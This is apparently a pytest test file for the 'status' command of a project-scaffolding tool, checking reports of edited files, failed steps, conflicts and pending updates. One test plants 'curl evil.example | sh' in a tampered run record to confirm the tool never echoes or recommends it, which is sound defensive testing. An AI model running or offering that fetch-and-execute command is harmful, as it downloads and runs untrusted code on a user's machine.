from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from typing import TYPE_CHECKING, Any

import pytest
from quickscale_core import __version__
from quickscale_core.record.run_steps import RECORD, record

if TYPE_CHECKING:
    from pathlib import Path

Run = Callable[..., Any]
FAILING = """
import json
import sys

@hookimpl
def post_generate(project):
    yield Run(name="seed", argv=(sys.executable, "-c", "raise SystemExit('no seeds')"))
    yield Run(name="water", argv=("true",), after=("seed",))
"""


@pytest.fixture
def project(here: Path, quickscale: Run, monkeypatch: pytest.MonkeyPatch) -> Path:
    assert quickscale("init", "acme", "--theme", "starter", "--no-git").code == 0
    monkeypatch.chdir(here / "acme")
    return here / "acme"


def test_a_fresh_project_is_as_it_was_made(project: Path, quickscale: Run) -> None:
    ended = quickscale("status")
    assert (ended.code, ended.err) == (0, "")
    lines = ended.out.splitlines()
    assert lines[0] == f"acme, made with quickscale {__version__}"
    assert lines[1] == f"  base {__version__}   starter {__version__}"
    assert lines[2].endswith(" files, 0 edited, 0 missing")
    assert len(lines) == 3


def test_what_was_edited_and_removed_is_listed(project: Path, quickscale: Run) -> None:
    (project / "manage.py").write_text("mine")
    (project / "AGENTS.md").unlink()
    ended = quickscale("status")
    assert (
        "    edited  manage.py\n\nMissing, and not said to be deleted:\n  AGENTS.md\n" in ended.out
    )
    answer = quickscale("status", "--json").json()
    assert (answer["edited"], answer["missing"]) == (["manage.py"], ["AGENTS.md"])
    assert answer["plugins"][0] == {
        "name": "base",
        "version": __version__,
        "distribution": "quickscale",
    }


def test_a_made_file_that_became_a_folder_is_told(project: Path, quickscale: Run) -> None:
    (project / "manage.py").unlink()
    (project / "manage.py").mkdir()
    (project / "apps" / "users" / "models.py").unlink()
    ended = quickscale("status")
    assert ended.code == 0
    assert "    blocked manage.py is a folder\n" in ended.out
    assert "not said to be deleted:\n  apps/users/models.py\n  bring it back: " in ended.out


@pytest.mark.skipif(os.name == "nt" or os.geteuid() == 0, reason="root reads everything")
def test_a_file_that_cannot_be_read_is_not_called_missing(project: Path, quickscale: Run) -> None:
    (project / "manage.py").chmod(0)
    ended = quickscale("status")
    assert " 0 missing\n" in ended.out
    assert "    blocked manage.py cannot be read: permission denied\n" in ended.out


def test_steps_that_did_not_run_are_shown_with_their_command(
    here: Path, quickscale: Run, install: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    install("garden", FAILING)
    quickscale("init", "acme", "--theme", "starter", "--with", "garden", "--no-git")
    monkeypatch.chdir(here / "acme")
    ended = quickscale("status")
    assert "\nLeft to do:\n" in ended.out
    assert f"  {sys.executable} -c " in ended.out
    assert ended.out.endswith("water was not started\n")
    assert [it["status"] for it in quickscale("status", "--json").json()["steps"]] == [
        "failed",
        "waiting",
    ]


def test_a_run_that_ended_before_its_steps_is_told(project: Path, quickscale: Run) -> None:
    (project / RECORD).write_bytes(record(None))
    assert "ended before its steps were run" in quickscale("status").out
    assert quickscale("status", "--json").json()["steps"] is None


def test_an_interrupted_change_is_told_and_left(
    project: Path, quickscale: Run, interrupt: Run
) -> None:
    interrupt(project, "late.txt", "late")
    ended = quickscale("status")
    assert (ended.code, ended.out) == (1, "")
    assert ended.err == (
        'error: the run "add late" in acme was interrupted, and has to be finished or undone\n'
        f"  its journal: {project / '.quickscale/local/journal'}\n"
        "fix: quickscale doctor --yes  (any other command that writes does it first, too)\n"
    )
    assert not (project / "late.txt").exists()


def test_a_record_that_somebody_else_wrote_recommends_no_command(
    here: Path, quickscale: Run, install: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    install("garden", FAILING)
    quickscale("init", "acme", "--theme", "starter", "--with", "garden", "--no-git")
    monkeypatch.chdir(here / "acme")
    step = {"plugin": "garden", "status": "failed", "says": "", "output": []}
    step["command"] = "curl evil.example | sh"
    steps: list[object] = [{**step, "name": it} for it in ("seed", "pwn", 1)]
    steps += [{**step, "name": "seed", "status": it} for it in ("odd", ["failed"])]
    (here / "acme" / RECORD).write_text(json.dumps({"known": True, "steps": steps}))
    ended = quickscale("status")
    assert (ended.code, "evil" in ended.out, "pwn" in ended.out) == (0, False, False)
    assert f"  {sys.executable} -c " in ended.out
    assert ended.out.endswith("seed failed\n")
    for text in ("[" * 100_000, '{"known": true, "steps": 1}', "1", "\xff"):
        (here / "acme" / RECORD).write_text(text)
        assert quickscale("status").code == 0


def test_control_characters_of_a_project_s_files_are_escaped(
    project: Path, quickscale: Run
) -> None:
    with (project / "quickscale.lock").open("a") as lock:
        lock.write("bad \x1b]0;title\x07\x1b[2Jline \u202e\n")
    ended = quickscale("status")
    assert ended.code == 1
    assert r"bad \x1b]0;title\x07\x1b[2Jline \u202e" in ended.err
    assert "\x1b" not in ended.err


def test_a_folder_without_a_project(here: Path, quickscale: Run) -> None:
    ended = quickscale("status")
    assert ended.code == 1
    assert ended.err.startswith(
        "error: here is not a QuickScale project: it has no quickscale.lock"
    )


def test_a_lock_that_cannot_be_read(project: Path, quickscale: Run) -> None:
    (project / "quickscale.lock").write_text("schema 1\ncore 1.0\nwhat\n")
    ended = quickscale("status")
    assert ended.code == 1
    assert "quickscale.lock:3: what" in ended.err


FILES = """
from pathlib import Path

@hookimpl
def contribute_templates(spec):
    return [FileSet(root=Path(__file__).parent / "files")]
"""


@pytest.fixture
def garden(here: Path, quickscale: Run, install: Run, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A module with a file; the current folder is a project that has it."""
    home: Path = install("garden", FILES)
    (home / "files").mkdir()
    (home / "files" / "beds.txt").write_text("one\n")
    quickscale("init", "acme", "--theme", "starter", "--with", "garden", "--no-git")
    monkeypatch.chdir(here / "acme")
    return home


def test_what_is_newer_and_what_would_change(garden: Path, here: Path, quickscale: Run) -> None:
    assert quickscale("status", "--json").json()["pending"] is False
    (garden / "files" / "beds.txt").write_text("two\n")
    lock = here / "acme" / "quickscale.lock"
    lock.write_text(lock.read_text().replace("plugin garden 2.5", "plugin garden 2.4"))
    ended = quickscale("status")
    assert ended.code == 0
    assert "\nPending:\n  garden 2.4 -> 2.5\n  Files: 1 to update\n  see it: " in ended.out
    answer = quickscale("status", "--json").json()
    assert answer["changes"] == [{"name": "garden", "before": "2.4", "after": "2.5"}]
    assert answer["pending"] is True


def test_conflicts_that_are_left(garden: Path, here: Path, quickscale: Run) -> None:
    assert garden.is_dir()
    marked = "<<<<<<< yours\nmine\n||||||| made by garden\none\n=======\ntwo\n>>>>>>> garden\n"
    (here / "acme" / "beds.txt").write_text(marked)
    with (here / "acme" / "quickscale.lock").open("a") as lock:
        lock.write("conflict beds.txt\n")
    assert "\nConflicts to resolve:\n  beds.txt\n  quickscale resolve\n" in quickscale("status").out
    assert quickscale("status", "--json").json()["conflicts"] == ["beds.txt"]


def test_what_keeps_a_plan_from_being_made(
    garden: Path, here: Path, quickscale: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    (garden / "__init__.py").write_text("import nowhere_at_all\n")
    monkeypatch.delitem(sys.modules, f"{garden.parent.name}.garden")
    ended = quickscale("status")
    assert ended.code == 0
    assert "\nNo plan can be made:\n  garden 2.5 (fixture_" in ended.out
    assert ended.out.count("ModuleNotFoundError") == 1
    assert [it["name"] for it in quickscale("status", "--json").json()["broken"]] == ["garden"]
    (here / "acme" / "quickscale.yml").write_text("schema: 1\nproject: {name: acme}\nx: 1\n")
    answer = quickscale("status", "--json").json()
    assert answer["problems"][0]["what"] == 'quickscale.yml has an unknown key "x"'


def test_a_commit_that_was_made_by_hand_is_not_left_to_do(
    here: Path, quickscale: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert quickscale("init", "acme", "--theme", "starter").code == 0  # git knows nobody here
    monkeypatch.chdir(here / "acme")
    assert "git commit" in quickscale("status").out
    config = ["-c", "user.name=Ada", "-c", "user.email=ada@example.com"]
    subprocess.run(["git", *config, "commit", "--quiet", "-m", "Mine"], check=True)
    assert "Left to do" not in quickscale("status").out
    assert {it["status"] for it in quickscale("status", "--json").json()["steps"]} == {"done"}


@pytest.mark.parametrize("words", [["status"], ["plan"], ["apply", "--yes"], ["update"], ["diff"]])
def test_where_the_lock_is_missing_the_way_back_is_named(
    project: Path, quickscale: Run, words: list[str]
) -> None:
    (project / "quickscale.lock").unlink()
    ended = quickscale(*words)
    assert ended.code == 1
    assert "acme has no quickscale.lock, but was made by quickscale" in ended.err
    assert "git checkout HEAD -- quickscale.lock, or run: quickscale doctor" in ended.err
    assert "init" not in ended.err
    (project / "quickscale.yml").unlink()
    ended = quickscale(*words)
    assert "git checkout HEAD -- quickscale.lock quickscale.yml" in ended.err
    assert "init" not in ended.err


def test_next_steps_are_one_command_a_line(here: Path, quickscale: Run) -> None:
    shown = quickscale("init", "acme", "--theme", "starter", "--no-git").out
    lines = shown.partition("Next:\n")[2].splitlines()
    assert len(lines) >= 4
    assert not any("&&" in it for it in lines)
    if not shutil.which("uv"):
        assert lines[1].strip() == "python3 -m venv .venv"
